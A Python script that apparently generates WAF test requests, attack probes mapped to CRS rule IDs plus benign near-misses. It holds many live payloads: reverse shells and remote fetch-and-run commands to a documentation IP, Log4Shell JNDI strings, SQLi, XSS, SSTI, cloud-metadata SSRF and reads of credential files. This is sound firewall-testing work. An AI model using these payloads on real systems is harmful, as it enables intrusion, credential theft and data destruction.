#!/usr/bin/env python3
"""Generates class-level probe requests (attacks + benign near-misses) in the corpus JSONL format.
Written from the attack classes of CRS v4 PL1 rules, not copied from the corpus."""
import json, urllib.parse as up, base64, sys

BASE_H = {
    "Host": "localhost",
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "Accept-Language": "en-US,en;q=0.5",
    "Accept-Encoding": "gzip, deflate",
}
out = []
cnt = {}

def add(cls, ref, attack, method="GET", uri="/", headers=None, body=None, note=""):
    h = dict(BASE_H)
    if headers:
        for k, v in headers.items():
            if v is None:
                h.pop(k, None)
            else:
                h[k] = v
    n = cnt.get(cls, 0) + 1
    cnt[cls] = n
    out.append({"id": f"{cls}-{'A' if attack else 'B'}{n}", "family": cls, "crs": ref, "method": method,
                "uri": uri, "version": "HTTP/1.1", "headers": h, "body": body,
                "expect_trigger": attack, "note": note})

def q(v, name="q", path="/search"):
    return f"{path}?{name}={up.quote(v, safe='')}"

def get(cls, ref, attack, v, name="q", path="/search", note=""):
    add(cls, ref, attack, uri=q(v, name, path), note=note or v)

def form(cls, ref, attack, v, name="comment", note=""):
    add(cls, ref, attack, method="POST", uri="/submit",
        headers={"Content-Type": "application/x-www-form-urlencoded"},
        body=f"{name}={up.quote_plus(v)}", note=note or v)

def js(cls, ref, attack, obj, note=""):
    add(cls, ref, attack, method="POST", uri="/api/items", headers={"Content-Type": "application/json"},
        body=json.dumps(obj), note=note or json.dumps(obj))

def cookie(cls, ref, attack, v, note=""):
    add(cls, ref, attack, uri="/", headers={"Cookie": f"session=abc123; pref={up.quote(v, safe='')}"}, note=note or v)

def hdr(cls, ref, attack, name, v, note=""):
    add(cls, ref, attack, uri="/", headers={name: v}, note=note or f"{name}: {v}")

# ---------------- 932 Unix RCE ----------------
C = "rce-unix-sep"      # 932230/932235: separator + command
for v in [";uname -a", "x|id", "x||whoami", "x&&cat /etc/hosts", "a;ifconfig eth0", "1; sleep 10", "127.0.0.1 | nslookup x.oast.example",
          "foo%0aid".replace("%0a", "\n"), "foo\nwget http://203.0.113.9/a.sh", "a`id`b", "$(curl -s http://203.0.113.9/x|sh)",
          "x; ps aux", "x; env", "x & netstat -an", "x;  tail -n 20 /var/log/syslog", "{ls,-la}", "x;head /etc/shadow"]:
    get(C, "932230/932235", True, v)
C = "rce-unix-direct"   # 932250/932260/932261: command at value start
for v in ["ls -la /", "uname -a", "wget http://203.0.113.9/a.sh -O /tmp/a", "curl http://203.0.113.9/", "whoami", "hostname", "ps", "dmesg",
          "env", "nc -e /bin/sh 203.0.113.9 4444", "bash -i", "python3 -c 'import pty'", "sudo -l", "chmod 777 /tmp/x",
          "base64 -d /tmp/x", "nohup sh x.sh", "timeout 5 nmap -sV 10.0.0.1", "xargs -a /etc/passwd", "tar cf - /etc", "busybox nc -l -p 4444"]:
    get(C, "932250/932260/932261", True, v, name="cmd")
C = "rce-unix-evasion"  # quoting / globbing / $IFS / brace / tilde / history / alias
for v in [";c'a't /etc/passwd", ";c\\at /e\\tc/pa\\sswd", ";cat$IFS/etc/passwd", ";cat${IFS}/etc/passwd", ";{cat,/etc/passwd}",
          ";/???/c?t /???/p??s??", ";/bin/c[a]t /etc/pa[s]swd", ";ca$@t /etc/passwd", ";c\"\"at /etc/passwd",
          ";w'h'o'a'm'i", "x;who$()ami", "{,ip,a}", "c{a,oun}t", "~+/config", "cd ~-", "!-1", "!-2 !-1", "alias ls=rm",
          "alias -p x=y", ";$u cat /etc/passwd", ";${x}cat /etc/passwd", "a;cat</etc/passwd", "x;/usr/bin/id",
          "x;/bin/busybox id", "echo $HOME", "cd $PWD/..", "a${IFS}b", "/dev/null", "ls >/dev/null 2>&1", "cat proc/self/environ",
          "x;ec'h'o pwned", "x;\\u\\n\\a\\m\\e -a", "x;un\\\nname -a"]:
    get(C, "932230-932330", True, v)
C = "rce-unix-shellexpr"  # 932130 $( ) ${ } <( ) $[ ] /e[t]c
for v in ["$(id)", "${PATH}", "${foo:-bar}", "echo $((1+1))", "<(id)", ">(cat)", "$[1+1]", "/e[t]c/passwd", "/etc/pass[w]d",
          "a=${HOME}", "x ${cmd}", "$(printf 'id')"]:
    get(C, "932130", True, v)
C = "rce-shellshock"
hdr(C, "932170", True, "User-Agent", "() { :; }; echo; /bin/cat /etc/passwd")
hdr(C, "932170", True, "Referer", "() { ignored; }; /usr/bin/id")
hdr(C, "932170", True, "X-Custom", "() {  :;}; /bin/bash -c 'id'")
get(C, "932171", True, "() { :;}; /bin/sleep 5")
C = "rce-win-cmd"   # 932370/932380/932140/932150
for v in ["& dir c:\\", "| type c:\\windows\\win.ini", "& net user", "&& ipconfig /all", "| whoami /priv", "; systeminfo",
          "& certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe", "&cmd /c ver", "&c^md /c di^r", "& wmic process list",
          "& for /f %i in ('whoami') do echo %i", "if exist c:\\boot.ini echo y", "&reg query HKLM\\Software", "& schtasks /query",
          "& bitsadmin /transfer j http://203.0.113.9/a c:\\a", "& mshta http://203.0.113.9/a.hta", "&rundll32 url.dll,FileProtocolHandler calc",
          "& regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll", "| tasklist", "& netstat -ano", "&del /f /q c:\\x.txt",
          "& start calc", "& \"c:\\windows\\system32\\cmd.exe\" /c dir", "|findstr /s password *.config", "&icacls c:\\x /grant everyone:F",
          "& vssadmin list shadows", "& taskkill /im av.exe /f", "& xcopy c:\\x d:\\y", "&forfiles /p c:\\ /m *.exe /c calc",
          "& cscript a.vbs", "&nltest /dclist:corp", "& wevtutil cl security", "& ping -n 3 127.0.0.1 &", "&msiexec /q /i http://203.0.113.9/a.msi",
          "& attrib +h x", "&setx path c:\\x", "&klist", "| more c:\\windows\\win.ini", "&timeout /t 10", "&mklink /d x c:\\"]:
    get(C, "932370/932380/932140", True, v)
C = "rce-powershell"  # 932120 cmdlets, 932125 aliases
for v in ["Get-ChildItem C:\\", "Invoke-Expression $x", "Remove-Item -Recurse C:\\x", "Set-ExecutionPolicy Bypass", "Start-Process calc.exe",
          "Get-Content C:\\Windows\\win.ini", "Invoke-WebRequest -Uri http://203.0.113.9 -OutFile a", "iex (iwr http://203.0.113.9/a)",
          "; gci env:", "& gc c:\\windows\\win.ini", "-ExecutionPolicy Bypass -File a.ps1", "powershell -nop -w hidden -c id",
          "New-Object System.Net.WebClient", "Get-WmiObject Win32_Process", "Get-Process | Stop-Process", "Copy-Item a b", "Out-File c:\\x",
          "Add-Content c:\\x y", "Test-Connection 10.0.0.1", "Select-String -Path *.config -Pattern pass", "Write-Host pwned",
          "-EncodedCommand SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AYQApAA==", "| sal x iex; x 1", "; iwr http://203.0.113.9 -o a", "& saps calc"]:
    get(C, "932120/932125", True, v)
C = "rce-upload"  # 932180 restricted upload names
for fn in [".htaccess", "web.config", ".user.ini", "php.ini", ".bashrc", "authorized_keys", ".env", "config.yml", "settings.py", ".git/config", "../.htpasswd"]:
    add(C, "932180", True, method="POST", uri="/upload",
        headers={"Content-Type": "multipart/form-data; boundary=XyZ"},
        body=f"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{fn}\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XyZ--\r\n", note=fn)
# benign near-misses for RCE
C = "rce-benign"
for v in ["I'll be there at 5; see you", "cats & dogs", "best ls tools 2024", "who is the best?", "echo chamber effect", "ping pong table",
          "time to go home", "let's find out", "sort by date", "head of sales", "which file format", "cat food brands", "Tom & Jerry",
          "R&D department", "AT&T wireless", "alias: Johnny", "rock & roll", "c:\\Users\\bob\\Documents\\report.docx", "net income 2023",
          "dir. John Smith", "type: premium", "set up my account", "copy of invoice", "start date: 2024-01-01", "who am i really",
          "env: production", "ps: thanks!", "df-123", "w", "su-casa hotel", "last name", "history of rome", "my $HOME page", "path=/usr/lib",
          "~-shaped curve", "nice! -1 for that", "{a,b} set notation", "price: $(5)", "a|b|c", "a || b", "x && y", "see item #3; id 42",
          "Get a quote", "Remove item from cart", "Start process documentation", "new-object literal", "for %i in list", "if exist then",
          "Get-Help is useful", "Set the date", "The system() call in C", "dev/null jokes", "bin/ folder", "mkdir tutorial",
          "O'Reilly & Associates", "Tail of two cities", "Wget vs curl comparison article", "iex trading hours"]:
    get(C, "-", False, v)

# ---------------- 933 PHP ----------------
C = "php"
for v in ["<?php system($_GET['c']); ?>", "<?= `id` ?>", "<? passthru('id');", "php://filter/convert.base64-encode/resource=index.php",
          "php://input", "expect://id", "phar://./uploads/a.jpg/x", "zip://uploads/a.zip#x.php", "glob:///var/www/*",
          "compress.zlib:///etc/passwd", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+", "data:text/plain,<?php phpinfo();?>",
          "data:application/x-httpd-php;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+", "ssh2.exec://u:p@h:22/id", "rar://a.rar#x", "ogg://x",
          "system('id')", "passthru(\"id\")", "shell_exec('id')", "exec(\"id\")", "popen('id','r')", "proc_open('id',$d,$p)",
          "assert($_POST[x])", "eval(base64_decode('aWQ='))", "call_user_func('system','id')", "preg_replace('/.*/e','system(\"id\")','')",
          "create_function('', 'system(\"id\");')", "file_put_contents('a.php','x')", "include('http://203.0.113.9/a.txt')",
          "include $_GET['f'];", "require_once '/etc/passwd';", "array_map('system',array('id'))", "phpinfo()", "highlight_file('/etc/passwd')",
          "fopen('/etc/passwd','r')", "readfile('/etc/passwd')", "file_get_contents('/etc/passwd')", "(system)('id')", "$_GET[0]($_GET[1])",
          "$a='sys'.'tem';$a('id');", "${'_GET'}[0]", "\"\\x73ystem\"(\"id\")", "('sy'.'stem')('id')", "@eval($_POST['x']);",
          "$_SERVER['HTTP_HOST']", "$GLOBALS['x']", "$_COOKIE['a']", "$HTTP_RAW_POST_DATA", "allow_url_include=On",
          "auto_prepend_file=php://input", "disable_functions=", "open_basedir=/", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
          "a:1:{i:0;O:4:\"Test\":0:{}}", "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}", "unserialize($_COOKIE['x'])",
          "$f=\"system\";$f(\"id\");", "str_rot13('flfgrz')('vq')", "base64_decode('c3lzdGVt')('id')", "<?php\necho 1;", "[php]echo 1;[/php]",
          "<script language=\"php\">system('id');</script>", "$$x", "$_REQUEST[cmd]", "mail('a@b','s','b','','-X/var/www/x.php')",
          "putenv('LD_PRELOAD=/tmp/x.so')", "ini_set('open_basedir','/')", "scandir('/')", "posix_getpwuid(0)", "symlink('/etc/passwd','x')"]:
    get(C, "933xxx", True, v)
for fn in ["shell.php", "shell.php5", "shell.phtml", "shell.phar", "shell.pht", "shell.phps", "shell.php.", "a.PhP", "x.php7"]:
    add(C, "933110", True, method="POST", uri="/upload", headers={"Content-Type": "multipart/form-data; boundary=XyZ"},
        body=f"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{fn}\"\r\nContent-Type: image/png\r\n\r\nGIF89a\r\n--XyZ--\r\n", note=fn)
hdr(C, "933110", True, "X-Filename", "x.php")
C = "php-benign"
for v in ["how to use <? in xml", "<?xml version=\"1.0\"?><a/>", "system requirements", "exec summary", "the include file", "evaluate(3)",
          "$_ in perl", "price $5 (discount)", "function(x) in math", "phpinfo page tutorial", "O:8 train schedule", "a:1 ratio",
          "data: text report", "glob pattern *.txt", "zip code 12345", "php://docs.example", "assertive behaviour", "file_get_contents docs",
          "Order: O:12:\"abc\"", "eval(uate)", "c:11 verse", "include me", "array_map docs", "readme file", "expected://value? no",
          "I paid $100 (cash)", "Chapter 3: system(s) thinking", "my var is $var", "use ${} in templates"]:
    get(C, "-", False, v)

# ---------------- 934 Node/JS, proto pollution, SSTI, SSRF ----------------
C = "nodejs"
for v in ["require('child_process').exec('id')", "process.mainModule.require('child_process')", "process.env", "process.env.SECRET",
          "global.process.mainModule", "this.constructor.constructor('return process')()", "new Function('return this')()",
          "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", "console.log(process.env)", "module.exports={}",
          "String.fromCharCode(105,100)", "eval(String.fromCharCode(105,100))", "require.main.require('fs')", "process['binding']('spawn_sync')",
          "process.binding('fs')", "require('fs').readFileSync('/etc/passwd')", "__js_function(){}", "function(){return this}()",
          "process.kill(process.pid)", "process.exit()", "child_process.execSync('id')", "require(\"vm\").runInNewContext(\"1\")",
          base64.b64encode(b"require('child_process').exec('id')").decode(), "Process.spawn(\"id\")", "Process .spawn ('id')",
          "while(true){}", "for(;;){}", "while(1)", "while(!0){}"]:
    get(C, "934100/934150/934160", True, v)
js(C, "934100", True, {"rce": "_$$ND_FUNC$$_function (){require('child_process').exec('ls')}()"})
C = "proto-pollution"
add(C, "934130", True, uri="/?__proto__[admin]=1")
add(C, "934130", True, uri="/?a[__proto__][b]=1")
add(C, "934130", True, uri="/?constructor[prototype][admin]=1")
add(C, "934130", True, uri="/?x=constructor.prototype.polluted")
add(C, "934130", True, uri="/?__pro__proto__to__[x]=1")
js(C, "934130", True, {"__proto__": {"isAdmin": True}})
js(C, "934130", True, {"a": {"constructor": {"prototype": {"isAdmin": True}}}})
add(C, "934130", True, uri="/?x=%5F%5Fproto%5F%5F")
get(C, "934130", True, "\\u005f\\u005fproto\\u005f\\u005f")
C = "ssti"
for v in ["{{7*7}}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
          "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "{% import os %}",
          "${T(java.lang.Runtime).getRuntime().exec('id')}", "*{T(java.lang.Runtime).getRuntime().exec('id')}",
          "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
          "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "{php}echo 1;{/php}", "{system('id')}", "@(1+2)",
          "{{lipsum.__globals__['os'].popen('id').read()}}", "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{self.__init__.__globals__}}",
          "${{7*7}}", "{{ 7 * '7' }}", "{{= 7*7 }}", "[[${7*7}]]", "{{constructor.constructor('alert(1)')()}}", "{%25 debug %25}", "<%= system('id') %>",
          "${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"]:
    get(C, "934200+", True, v)
C = "ssrf"
for v in ["http://169.254.169.254/latest/meta-data/", "http://[::ffff:a9fe:a9fe]/latest/", "http://169.254.169.254.nip.io/latest/",
          "http://metadata/computeMetadata/v1/", "http://0xa9fea9fe/", "http://2852039166/latest/", "http://rancher-metadata/",
          "http://100.100.100.200/latest/meta-data/", "http://192.0.0.192/latest/", "http://127.0.0.1:2375/containers/json",
          "http://⑯⑨。②⑤④。⑯⑨｡②⑤④/", "http://169。254。169。254/", "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/stat",
          "file:///etc/passwd", "http://localhost:8080/admin", "http://[::]:80/", "http://0/", "http://127.1/", "http://metadata.google.internal/",
          "http://instance-data/latest/", "http://[0:0:0:0:0:ffff:127.0.0.1]:2375/", "http://017700000001/", "http://0x7f000001/",
          "jar:http://203.0.113.9/a.jar!/", "ldap://203.0.113.9/x", "http://169.254.170.2/v2/credentials", "netdoc:///etc/passwd"]:
    get(C, "934110/934190/931", True, v, name="url")
C = "node-ssrf-benign"
for v in ["https://www.example.com/page", "http://example.org/a?b=c", "{{ name }}", "Hello {{user}}", "${price} USD", "process documentation",
          "the constructor pattern", "prototype design", "while (loading) wait", "for (;;) loops explained", "String literal", "require a visa",
          "eval of candidates", "global warming", "module 3 exports", "console game review", "http://localhost.example.com/",
          "https://api.github.com/repos", "#{hashtag}", "<%= pie %> chart", "metadata standards", "function() in JS docs", "this.constructor docs",
          "127.0.0.1 is localhost", "{%raw%}", "{{7}}", "169.254 link local article", "user@localhost"]:
    get(C, "-", False, v)

# ---------------- 930/931 LFI/RFI ----------------
C = "lfi"
for v in ["../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "....//....//etc/passwd",
          "..\\..\\windows\\win.ini", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/etc/passwd%00.jpg", "/etc/shadow", "/proc/self/environ",
          "c:\\boot.ini", "c:/windows/system32/drivers/etc/hosts", "WEB-INF/web.xml", "/var/log/apache2/access.log", "~/.bash_history",
          "/etc/hostname", "/etc/mysql/my.cnf", "etc/os-release", "/etc/ssh/sshd_config", ".aws/credentials", ".docker/config.json",
          ".kube/config", ".git-credentials", "web.config", "/usr/local/etc/php.ini", "/boot/grub/grub.cfg", "/etc/redis/redis.conf",
          "/etc/environment", "..;/..;/etc/passwd", ".../.../etc/passwd", "/e\"t\"c/pa\"ss\"wd", "/etc/./passwd", "/etc//passwd",
          "/./etc/passwd", "file:///c:/windows/win.ini", "....\\\\....\\\\etc\\\\passwd", "/.ssh/id_rsa", ".npmrc", ".pgpass", ".my.cnf",
          "/sys/class/net", "proc/version", "/etc/nginx/nginx.conf", "/opt/tomcat/conf/tomcat-users.xml", "/root/.bashrc"]:
    get(C, "930100-930120", True, v, name="file")
for v in ["/x/..%2f..%2f..%2fetc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd", "/a/%252e%252e/%252e%252e/etc/passwd", "/..;/admin", "/a/..%5c..%5cwindows/win.ini"]:
    add(C, "930100/930110", True, uri=v, note=v)
C = "restricted-file"
for p in ["/.git/HEAD", "/.env", "/.env.local", "/.aws/credentials", "/.DS_Store", "/web.config", "/Web.config", "/.htpasswd", "/composer.json",
          "/.svn/entries", "/.vscode/settings.json", "/WEB-INF/web.xml", "/.bash_history", "/wp-config.php~", "/wp-config.php.bak",
          "/phpinfo.php", "/config.php.bak", "/dump.sql", "/backup.sql.gz", "/.travis.yml", "/.gitlab-ci.yml", "/Dockerfile", "/docker-compose.yml",
          "/.terraform/terraform.tfstate", "/.idea/workspace.xml", "/package.json", "/yarn.lock", "/.gitignore", "/config.yml", "/secrets.yml",
          "/php.ini", "/.user.ini", "/debug.log", "/error.log", "/app/etc/env.php", "/sites/default/settings.php", "/Thumbs.db", "/.npmrc",
          "/server.key", "/db.sqlite", "/site.db", "/shortcut.lnk", "/cert.cer", "/app.dat", "/admin.cfg", "/index.php.old", "/x.swp",
          "/.hg/store", "/__pycache__/x.pyc", "/proc/self/cmdline", "/.ssh/authorized_keys", "/config.json", "/credentials.json", "/.well-known/../.env"]:
    add(C, "930130/920440", True, uri=p, note=p)
C = "rfi"
for v in ["http://203.0.113.9/shell.txt?", "http://203.0.113.9/x", "ftp://203.0.113.9/a.php", "https://evil.example/shell.txt?",
          "http://evil.example/a.php??", "file://203.0.113.9/x", "http://evil.example/x.txt%00", "https://evil.example/r57.txt?&"]:
    get(C, "931100/931120", True, v, name="page")
add(C, "931110", True, uri="/index.php?mosConfig_absolute_path=http://evil.example/x.txt?")
add(C, "931110", True, uri="/x.php?include(%27x%27)=http://evil.example/a")
C = "lfi-benign"
for v in ["../images/logo.png", "passwd reset page", "etc. and so on", "The file is at docs/README", "system32 tutorial", "proc and cons",
          "win.ini explained", "https://example.com/a.txt", "http://example.org/?", "see ..", "..", "a...b", "config options", "environment variables",
          "my.cnf tips", "C:\\Program Files\\App", "/home/user/docs", "etc/", "hosts file editing guide", "shadow boxing",
          "web.configuration manual", "package.json explained", ".env files best practices"]:
    get(C, "-", False, v, name="file")
for p in ["/docs/getting-started", "/images/logo.png", "/static/app.js", "/api/v1/users/42", "/environment", "/gitlab", "/blog/.net-tips",
          "/.well-known/security.txt", "/.well-known/openid-configuration", "/robots.txt", "/favicon.ico", "/sitemap.xml", "/en/config-guide",
          "/downloads/report.pdf", "/catalog/log-cabins", "/store/db-shirts", "/users/key-holders", "/manifest.json", "/sw.js", "/assets/config.js",
          "/api/configs", "/team/dat-nguyen"]:
    add(C, "-", False, uri=p, note=p)

# ---------------- 941 XSS ----------------
C = "xss"
for v in ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<body onload=alert(1)>",
          "javascript:alert(1)", "<a href=\"javascript:alert(1)\">x</a>", "<iframe src=javascript:alert(1)>", "\"><script>alert(1)</script>",
          "'-alert(1)-'", "\";alert(1);//", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<x onpointerover=alert(1)>", "<a href=\"jav&#x09;ascript:alert(1)\">",
          "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>", "<scr<script>ipt>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E",
          "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<embed src=javascript:alert(1)>",
          "<form action=javascript:alert(1)><input type=submit>", "<isindex action=javascript:alert(1) type=image>", "<base href=javascript:/a/-alert(1)///>",
          "<style>@import 'http://evil/x.css';</style>", "<div style=\"background:url(javascript:alert(1))\">", "<div style=\"width:expression(alert(1))\">",
          "<marquee onstart=alert(1)>", "<link rel=import href=data:text/html,<script>alert(1)</script>>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
          "¼script¾alert(¢XSS¢)¼/script¾", "document.cookie", "window.location='http://evil'", "alert`1`", "top['al'+'ert'](1)", "self[`alert`](1)",
          "[].constructor.constructor('alert(1)')()", "setTimeout('alert(1)')", "<svg><animate onbegin=alert(1) attributeName=x>",
          "{{constructor.constructor('alert(1)')()}}", "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">", "<a href=\"data:text/html,<script>alert(1)</script>\">",
          "vbscript:msgbox(1)", "<img dynsrc=javascript:alert(1)>", "<table background=javascript:alert(1)>", "<xss id=x tabindex=1 onactivate=alert(1)></xss>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<a onclick=alert(1)>x</a>", "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)",
          "<svg><script href=data:,alert(1) />", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<img src=1 oNeRrOr=confirm(1)>"]:
    get(C, "941xxx", True, v)
cookie(C, "941xxx", True, "<script>alert(1)</script>")
hdr(C, "941xxx", True, "Referer", "http://x/\"><script>alert(1)</script>")
hdr(C, "941xxx", True, "User-Agent", "<script>alert(1)</script>")
js(C, "941xxx", True, {"name": "<img src=x onerror=alert(1)>"})
C = "xss-benign"
for v in ["<p>Hello <b>world</b></p>", "<a href=\"https://example.com\">link</a>", "<img src=\"https://cdn.example.com/a.png\" alt=\"x\">",
          "I <3 cats", "a < b and c > d", "x => x*2", "onion rings", "one=1&two=2", "I love javascript: it's great", "document the cookie recipe",
          "alert the team", "the script of the movie", "<ul><li>one</li></ul>", "Style guide: use <em>", "confirm your email", "prompt engineering",
          "on=off", "online store", "onboarding=true", "expression (math)", "<table><tr><td>1</td></tr></table>", "<blockquote>quote</blockquote>",
          "email me at a@b.com", "url(https://example.com/bg.png)", "data: 2024 report", "<br>", "The formula =SUM(A1:A3)", "top 10 windows tips"]:
    get(C, "-", False, v)

# ---------------- 942 SQLi ----------------
C = "sqli"
for v in ["1' OR '1'='1", "1 OR 1=1", "' OR 1=1--", "admin'--", "1' UNION SELECT null,version()--", "1 UNION ALL SELECT 1,2,3 FROM users",
          "1; DROP TABLE users", "1' AND SLEEP(5)--", "1 AND sleep(5)", "1' WAITFOR DELAY '0:0:5'--", "1;SELECT pg_sleep(5)", "1 AND benchmark(5000000,md5(1))",
          "1' AND extractvalue(1,concat(0x7e,version()))--", "1 AND updatexml(1,concat(0x7e,user()),1)", "1' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
          "' UNION SELECT table_name FROM information_schema.tables--", "1 PROCEDURE ANALYSE()", "1' INTO OUTFILE '/var/www/x.php'--",
          "admin@juice-sh.op';", "x\";", "foo`;", "1 /*!50000union*/ /*!50000select*/ 1", "1/*!union*//*!select*/1", "1.e(ascii", "1.e.id",
          "1.e,version()", "{\"a\":1}'::jsonb @> '{\"a\":1}'", "json_extract(x,'$.a')", "'{\"a\":1}' <@ '{\"a\":1,\"b\":2}'",
          "[$ne]=1", "$where: '1 == 1'", "{\"$gt\":\"\"}", "sqlite_compileoption_get(0)", "concat(0x41,0x42)", "group_concat(password)",
          "load_file('/etc/passwd')", "1 AND ascii(substring(user(),1,1))>64", "1 AND char_length(database())>1", "1; exec master..xp_cmdshell 'dir'",
          "1;exec(@x)", "declare @x varchar(99)", "1::int", "1 AND 1=1::integer", "merge into t using (select 1)", "execute immediate 'select 1'",
          "match(title) against ('x')", "alter table users character set utf8", "'; goto x", "4294967296", "2147483648", "1e309",
          "create function x returns string soname 'a.so'", "1;shutdown--", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)", "1 RLIKE (SELECT 1)",
          "1' AND '1'='1", "-1' OR 2>1--", "1' OR 'a' LIKE 'a", "name' AND 1 IN (SELECT 1)--", "x' HAVING 1=1--", "1 ORDER BY 10--",
          "1'||(SELECT '')||'", "1 AND row_count()", "SELECT * FROM users WHERE id=1", "1 div 1", "lo_import('/etc/passwd')", "1' ; select 1",
          "1 and if(1=1,sleep(1),0)", "iif(1=1,1,0)", "1 and pg_read_file('/etc/passwd')", "uuid()", "md5(1)", "database()", "@@version",
          "1 AND 'x' = 'x'", "case when 1=1 then 1 else 0 end", "1 xor 1", "1' --", "1'#", "') or ('1'='1", "1 or true", "x' or true--"]:
    get(C, "942xxx", True, v, name="id")
js(C, "942550", True, {"q": "1' OR 1=1--"})
cookie(C, "942xxx", True, "1' UNION SELECT password FROM users--")
hdr(C, "942xxx", True, "User-Agent", "Mozilla/5.0' AND SLEEP(5)--")
hdr(C, "942xxx", True, "Referer", "http://x/?id=1' or '1'='1")
C = "sqli-benign"
for v in ["O'Brien", "it's a dog's life", "rock 'n' roll", "Select your country", "union station", "drop-down menu", "update my profile",
          "I'm 5'10\"", "\"Hello\"; she said", "She said 'hi'; then left", "1-2-3", "order by price", "group by category", "sleep well tonight",
          "benchmark results", "SELECT model", "having fun", "a=b", "50% off", "it's 5 o'clock", "Don't stop", "what's new?", "#1 best seller",
          "--dash--", "/* comment */", "C# and F#", "user@example.com", "1e10", "3.14e-5", "1.5", "[1,2,3]", "{\"a\":1}", "$100", "x' y",
          "Mary's cafe; open late", "md5 checksum", "concatenate strings", "the left (side)", "trim the hedge", "insert coin", "space (the final frontier)",
          "database admin jobs", "schema.org markup", "version 2.0", "user guide", "if (you) can", "case study", "I/O wait", "ascii art",
          "char siu", "substring search", "uuid generator", "Lower (case)", "quote (of the day)", "position (job)", "decode (message)"]:
    get(C, "-", False, v, name="q")

# ---------------- 944 Java ----------------
C = "java"
for v in ["${jndi:ldap://203.0.113.9/a}", "${${lower:j}ndi:${lower:l}dap://x/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "${jndi:dns://x/a}",
          "${env:AWS_SECRET_ACCESS_KEY}", "${sys:user.home}", "java.lang.Runtime.getRuntime().exec('id')", "new java.lang.ProcessBuilder('id').start()",
          "Runtime.getRuntime().exec(\"id\")", "Class.forName(\"java.lang.Runtime\")", "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
          "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}", "${#a=new java.lang.ProcessBuilder('id').start()}",
          "#{T(java.lang.Runtime).getRuntime().exec('id')}", "T(java.lang.Runtime).getRuntime()", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
          "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "org.apache.commons.collections.functors.InvokerTransformer",
          "com.sun.rowset.JdbcRowSetImpl", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/a\"}",
          "java.beans.XMLDecoder", "javax.script.ScriptEngineManager", "''.getClass().forName('java.lang.Runtime')", "${''.getClass()}",
          "(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd))", "ognl.OgnlContext", "${applicationScope}", "${pageContext.request.getSession()}",
          "java.io.FileInputStream", "javax.naming.InitialContext", "${T(java.lang.System).getenv()}", "@java.lang.Runtime@getRuntime().exec('id')",
          "H4sIAAAAAAAAAKtWKklNTFGyUlAqS8wpTVWqBQBfW5D0EwAAAA==", "aced00057372", "java.lang.reflect.Method", "java.net.URLClassLoader",
          "groovy.lang.GroovyShell", "bsh.Interpreter", "sun.misc.Unsafe", "org.springframework.context.support.ClassPathXmlApplicationContext"]:
    get(C, "944xxx", True, v)
hdr(C, "944150", True, "User-Agent", "${jndi:ldap://203.0.113.9/a}")
hdr(C, "944150", True, "X-Api-Version", "${jndi:ldap://203.0.113.9/a}")
hdr(C, "944150", True, "Referer", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}")
add(C, "944100", True, method="POST", uri="/api", headers={"Content-Type": "application/xml"},
    body="<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>")
add(C, "944120", True, method="POST", uri="/api", headers={"Content-Type": "application/x-java-serialized-object"},
    body="\xac\xed\x00\x05sr\x00\x11java.util.HashMap")
for fn in ["shell.jsp", "shell.jspx", "a.war", "x.jsp.", "x.jspf"]:
    add(C, "944140", True, method="POST", uri="/upload", headers={"Content-Type": "multipart/form-data; boundary=XyZ"},
